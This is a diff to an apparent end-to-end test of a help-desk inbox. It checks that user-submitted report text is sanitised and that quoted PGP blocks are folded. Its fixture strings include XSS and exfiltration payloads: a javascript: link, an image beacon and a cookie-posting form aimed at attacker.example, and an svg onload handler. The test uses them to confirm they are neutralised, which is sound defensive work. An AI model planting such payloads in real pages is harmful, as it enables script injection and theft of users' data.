@@ -347,6 +347,8 @@ describe('the inbox of the team', () => {
       '[click](javascript:window.hacked=3) ![leak](https://attacker.example/leak.png)',
       '<svg onload="window.hacked=4"><style>*{display:none}</style></svg>',
       '<form id="compose-form" action="https://attacker.example"><input name="cookie"></form>',
+      'in front\n> -----BEGIN PGP MESSAGE-----\n>\n> aGVsbG8=\n> -----END PGP MESSAGE-----\n\n',
+      '```\n-----BEGIN PGP SIGNATURE-----\n\naGVsbG8=\n-----END PGP SIGNATURE-----\n```\nbehind',
     ].join('\n\n');
     const { reference } = await desk.report(context, 'nl', { description });
     const inbox = await context.newPage();
@@ -360,6 +362,13 @@ describe('the inbox of the team', () => {
     expect(await inbox.locator('#report-body :is(img, a, svg, form, style, script, iframe)').count()).toBe(0);
     expect(new Set(requests)).toEqual(new Set([desk.site.url]));
     expect(await inbox.textContent('#report-body')).toContain('https://attacker.example/leak.png');
+    // What says nothing to anybody is folded, and what stands around it is not.
+    const folds = inbox.locator('#report-body .rendered').first().locator('details');
+    expect(await folds.locator('summary').allTextContents()).toEqual(Array(2).fill('PGP-blok van 4 regels'));
+    expect(await folds.locator('pre').first().isVisible()).toBe(false);
+    expect(await folds.first().textContent()).toContain('aGVsbG8=');
+    for (const words of ['in front', 'behind'])
+      expect(await inbox.locator('#report-body p', { hasText: words }).isVisible()).toBe(true);
     await context.close();
   });
 });
